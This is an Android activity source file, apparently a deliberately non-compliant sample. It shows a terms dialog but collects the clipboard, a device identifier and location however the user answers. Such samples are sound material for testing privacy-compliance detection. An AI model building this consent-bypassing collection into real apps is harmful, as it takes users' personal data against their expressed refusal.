package cn.mingcha.example.stubborn;

import android.app.Activity;
import android.app.AlertDialog;
import android.content.DialogInterface;
import android.content.IntentFilter;
import android.os.Bundle;

/** Asks for consent, and collects whatever the answer is. */
public final class MainActivity extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        registerReceiver(new NetworkReceiver(), new IntentFilter("android.net.conn.CONNECTIVITY_CHANGE"));
        if (Flags.of(this).is("agreed", false)) {
            return;
        }
        Answer answer = new Answer(this);
        new AlertDialog.Builder(this)
                .setTitle(R.string.terms_title)
                .setMessage(R.string.terms)
                .setCancelable(true)
                .setPositiveButton(R.string.agree, answer)
                .setNegativeButton(R.string.refuse, answer)
                .setOnDismissListener(new DialogInterface.OnDismissListener() {
                    @Override
                    public void onDismiss(DialogInterface dialog) {
                        Collector.clipboard(MainActivity.this);
                    }
                })
                .show();
    }

    void leave() {
        Collector.identifier(this);
        Collector.place(this);
        moveTaskToBack(true);
    }
}
